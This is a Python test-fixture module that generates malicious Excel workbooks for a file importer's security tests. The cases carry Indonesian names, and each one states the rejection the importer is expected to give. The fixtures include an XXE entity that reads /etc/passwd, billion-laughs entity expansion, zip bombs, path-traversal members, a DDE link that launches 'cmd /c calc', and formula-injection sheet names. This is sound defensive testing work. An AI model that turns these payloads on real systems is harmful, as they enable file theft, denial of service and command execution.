"""Workbooks of the hostile corpus: zips written part by part, since no library writes what these hold."""

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from tests.hostile.make import HEADERS, KK, ROWS, Case, family_line, lines, one

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_TENFOLD = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
_LAUGHS = f'<!DOCTYPE x [<!ENTITY a "haha">{_TENFOLD}]>'
_SECRET = '<!DOCTYPE x [<!ENTITY m SYSTEM "file:///etc/passwd">]>'
_SHEET = "xl/worksheets/sheet1.xml"

Parts = dict[str, str | bytes]


def cell(text: str, at: str = "") -> str:
    place = f' r="{at}"' if at else ""
    return f'<c{place} t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def row(cells: list[str], number: int | None = None) -> str:
    stated = "" if number is None else f' r="{number}"'
    return f"<row{stated}>{''.join(map(cell, cells))}</row>"


def sheet(*rows: str, head: str = "") -> str:
    return f'<?xml version="1.0"?>{head}<worksheet xmlns="{_MAIN}"><sheetData>{"".join(rows)}</sheetData></worksheet>'


def table() -> list[str]:
    return [row(cells, number) for number, cells in enumerate([HEADERS, *ROWS], start=1)]


def parts(content: str | None = None, names: tuple[str, ...] = ("Data",), head: str = "") -> Parts:
    """A workbook's parts; each sheet has the same content."""
    content = sheet(*table()) if content is None else content
    sheets = "".join(f'<sheet name={quoteattr(name)} sheetId="{n}" r:id="r{n}"/>' for n, name in enumerate(names, 1))
    relations = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(names) + 1)
    )
    made: Parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?>{head}<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>{sheets}'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}">{relations}</Relationships>',
    }
    return made | {f"xl/worksheets/sheet{n}.xml": content for n in range(1, len(names) + 1)}


def utf16(xml: str) -> bytes:
    return xml.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")


def packed(made: Parts) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in made.items():
            archive.writestr(name, content)
    return file.getvalue()


def book(made: Parts, name: str = "a.xlsx") -> Callable[[Path], list[Path]]:
    return lambda folder: one(name, packed(made))(folder)


def bomb(
    size: int, member: str = _SHEET, stated: int | None = None, name: str = "a.xlsx", body: bytes = b"\0"
) -> Callable[[Path], list[Path]]:
    """A workbook with a member of `size` bytes, all alike; `stated`: what the zip says of it instead."""

    def build(folder: Path) -> list[Path]:
        path = folder / name
        made = parts()
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            for part, content in made.items():
                if part != member:
                    archive.writestr(part, content)
            chunk = body * (1_000_000 // len(body))
            with archive.open(member, "w", force_zip64=True) as file:
                for _ in range(size // len(chunk)):
                    file.write(chunk)
        if stated is not None:
            raw = path.read_bytes()
            at = raw.rindex(b"PK\1\2") + 24
            path.write_bytes(raw[:at] + struct.pack("<L", stated) + raw[at + 4 :])
        return [path]

    return build


def _nested() -> bytes:
    """Ten zips deep, ten each: 100 MB at the bottom of every branch."""
    content, name = b"\0" * 10_000_000, "isi.bin"
    for depth in range(10):
        content, name = packed({f"{n}-{name}": content for n in range(10 if depth else 1)}), "dalam.zip"
    return content


def _bitten(made: Parts, member: str, offset: int, value: int) -> bytes:
    """A byte of the member's packed content changed."""
    raw = packed(made)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        at = archive.getinfo(member).header_offset
    start = at + 30 + len(member)
    return raw[: start + offset] + bytes([raw[start + offset] ^ value]) + raw[start + offset + 1 :]


def _flagged(raw: bytes) -> bytes:
    """Every entry says it is encrypted."""
    spread = bytearray(raw)
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = -1
        while (at := raw.find(mark, at + 1)) >= 0:
            spread[at + offset] |= 1
    return bytes(spread)


def _far(*places: str) -> str:
    """The table, and a cell far away in each place."""
    far = "".join(f'<row r="{place.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}">{cell("x", place)}</row>' for place in places)
    return sheet(*table(), far)


def _letters(number: int) -> str:
    text = ""
    while number:
        number, rest = divmod(number - 1, 26)
        text = chr(65 + rest) + text
    return text


WHOLE = packed(parts())
WIDE = row([*HEADERS, *(f"k{n}" for n in range(60_000))], 1)
STRINGS = "xl/sharedStrings.xml"
LINKED = parts() | {
    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_MAIN}">'
    '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" '
    f'Type="{_OFFICE}/externalLinkPath" Target="http://127.0.0.1:1/x.xlsx" TargetMode="External"/></Relationships>',
}  # fmt: skip
REST = "".join(map(cell, ROWS[0][1:]))
CALL = 'WEBSERVICE("http://127.0.0.1:1/"&amp;A1)'
FORMULAS = sheet(
    row(HEADERS, 1),
    *(f'<row r="{n}"><c><f>{CALL}</f><v>{KK[n]}</v></c>{REST}</row>' for n in (2, 3)),
    f'<row r="4"><c><f>[1]Data!A1</f></c>{REST}</row>',
)
RELATIONS = "xl/_rels/workbook.xml.rels"
OUTSIDE = str(parts()[RELATIONS]).replace("worksheets/sheet1.xml", "../../../../etc/passwd")
ENTITY = sheet(*table(), row([*family_line(KK[9]).split("|")], 6), head=_SECRET).replace("Contoh", "&m;")


def _shared(index: str, head: str = "", item: str = "<t>x</t>") -> Parts:
    """A sheet whose fifth row names a family by a shared string."""
    cells = f'<c t="s"><v>{index}</v></c>' + "".join(map(cell, ROWS[0][1:]))
    strings = f'<?xml version="1.0"?>{head}<sst xmlns="{_MAIN}"><si>{item}</si></sst>'
    return parts(sheet(*table(), f'<row r="6">{cells}</row>')) | {STRINGS: strings}


BOOKS = (
    Case("xlsx_utuh", book(parts()), read=4),
    Case("xlsx_bernama_csv", book(parts(), "a.csv"), read=4),
    Case("xlsx_terpotong", one("a.xlsx", WHOLE[: len(WHOLE) // 2]), "not_a_table"),
    Case("xlsx_tanpa_ekor", one("a.xlsx", WHOLE[:-30]), "not_a_table"),
    Case("xlsx_hanya_awal", one("a.xlsx", b"PK\3\4"), "not_a_table"),
    Case("xlsx_byte_berubah", one("a.xlsx", _bitten(parts(), _SHEET, 60, 0x55)), "not_a_table"),
    Case("xlsx_tersandi", one("a.xlsx", _flagged(WHOLE)), "not_a_table"),
    Case("zip_biasa", one("a.zip", packed({"keluarga.txt": lines()})), "unsupported_format"),
    Case("zip_bernama_xlsx", one("a.xlsx", packed({"keluarga.txt": lines()})), "unsupported_format"),
    Case("zip_kosong", one("a.xlsx", b"PK\5\6" + b"\0" * 18), "unsupported_format"),
    Case("ods_bernama_xlsx", one("a.xlsx", packed({"mimetype": "x", "content.xml": "<a/>"})), "unsupported_format"),
    Case("bom_zip_bernama_zip", bomb(600_000_000, name="a.zip"), "unsupported_format"),
    Case("bom_zip", bomb(600_000_000), "too_large"),
    Case("bom_zip_di_bagian_lain", bomb(600_000_000, "xl/media/a.png"), "too_large"),
    Case("bom_zip_berbohong", bomb(600_000_000, stated=1000), "too_large"),
    Case("bom_zip_bertingkat", one("a.zip", _nested()), "unsupported_format"),
    Case("bom_zip_bertingkat_xlsx", book(parts() | {"xl/embeddings/a.zip": _nested()}), read=4),
    Case("bom_string", bomb(300_000_000, STRINGS, body=b"<si><t>a</t></si>"), "not_a_table"),
    Case("bom_sel", bomb(200_000_000, body=b"<c><v>1</v></c>"), "empty_file"),
    Case("banyak_bagian", book(parts() | {f"x/{n}": "" for n in range(10_001)}), "too_large"),
    Case("xlsx_60000_kolom", book(parts(sheet(WIDE, *table()[1:]))), "too_large"),
    Case("xlsx_60000_kolom_disebut", book(parts(_far(f"{_letters(60_000)}7"))), "too_large"),
    Case("sel_di_sudut", book(parts(_far("XFD1048576"))), "too_large"),
    Case("sel_jauh_di_bawah", book(parts(_far("AZ1048576"))), "too_large"),
    Case(
        "sel_jauh_di_lembar_lain",
        book(parts(names=("Data", "Lain")) | {"xl/worksheets/sheet2.xml": _far("ZZ100000")}),
        "too_large",
    ),
    Case("baris_nol", book(parts(sheet(*table(), row(ROWS[0], 0)))), "not_a_table"),
    Case("baris_raksasa", book(parts(sheet(*table(), row(ROWS[0], 10**19)))), "too_large"),
    Case("baris_jauh", book(parts(sheet(*table(), row(ROWS[0], 1_048_576)))), "too_large"),
    Case("baris_dua_kali", book(parts(sheet(*table(), row(ROWS[0], 3)))), "not_a_table"),
    Case("string_tak_ada", book(_shared("7")), "not_a_table"),
    Case("string_bukan_bilangan", book(_shared("-1")), read=5, quarantined=1),
    Case("entitas_di_buku", book(parts(head=_LAUGHS)), "not_a_table"),
    Case(
        "entitas_utf16",
        book(parts() | {"xl/workbook.xml": utf16(str(parts(head=_LAUGHS)["xl/workbook.xml"]))}),
        "not_a_table",
    ),
    Case("entitas_di_string", book(_shared("0", _LAUGHS, "<t>&m;</t>")), "not_a_table"),
    Case("entitas_luar_di_lembar", book(parts(ENTITY)), "not_a_table"),
    Case("tautan_luar", book(LINKED), read=4),
    Case("rumus_berjaringan", book(parts(FORMULAS)), read=3, quarantined=1),
    Case("bagian_di_luar", book(parts() | {RELATIONS: OUTSIDE}), "not_a_table"),
    Case("bagian_naik", book({**parts(), "../../../../tmp/jahat.txt": "x", "/etc/jahat": "x"}), read=4),
    Case("lembar_bernama_rumus", book(parts(names=("=cmd|' /C calc'!A0",))), read=4),
    Case("lembar_bernama_path", book(parts(names=("../../etc/passwd\n<b>",))), read=4),
    Case("dua_lembar_sama", book(parts(names=("=1+1", "../../a"))), read=8, quarantined=4),
    Case("nama_lembar_sama", book(parts(names=("Data", "Data"))), "not_a_table"),
    Case("tanpa_lembar", book(parts(names=())), "empty_file"),
    Case("lembar_kosong", book(parts(sheet())), "empty_file"),
    Case("lembar_hilang", book({name: text for name, text in parts().items() if name != _SHEET}), "not_a_table"),
    Case("xml_rusak", book(parts(sheet(*table())[:-30])), "not_a_table"),
    Case("xml_dalam", book(parts() | {"xl/workbook.xml": "<a>" * 1_000_000}), "not_a_table"),
    Case("lembar_utf16", book(parts() | {_SHEET: utf16(sheet(*table()))}), "empty_file"),
    Case("sel_tak_tertutup", book(parts(sheet("<!--", "<c r='A1'><c>" * 300_000, "-->", *table()))), read=4),
    Case(
        "xlsb_bernama_xlsx",
        one("a.xlsx", packed({"[Content_Types].xml": "", "xl/workbook.bin": "x"})),
        "unsupported_format",
    ),
)
